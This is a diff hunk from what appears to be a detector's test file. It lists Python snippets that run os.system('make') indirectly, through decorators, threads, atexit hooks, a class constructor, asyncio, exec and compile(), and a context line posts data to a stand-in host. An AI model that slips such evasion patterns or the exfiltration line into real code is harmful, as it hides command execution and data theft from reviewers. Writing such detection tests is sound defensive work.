@@ -34,7 +34,7 @@ SEND = "requests.post('http://reenact.invalid', data=x)\n"
         "import os\ndef wrap(f):\n    f()\n    return f\n@wrap\ndef g():\n    os.system('make')",
         "import os, threading\ndef f():\n    os.system('make')\nthreading.Thread(target=f).start()",
         "import os, atexit\n@atexit.register\ndef f():\n    os.system('make')",
-        "import os\nclass A:\n    def __init__(self):\n        self.f()\n    def f(self): os.system('make')\nA()",
+        "import os\nclass A:\n    def __init__(self): self.f()\n    def f(self): os.system('make')\nA()",
         "import asyncio, os\nasync def f():\n    os.system('make')\nasyncio.run(f())",
         "exec(\"import os; os.system('make')\")",
         "exec(compile(\"import os; os.system('make')\", 'x', 'exec'))",
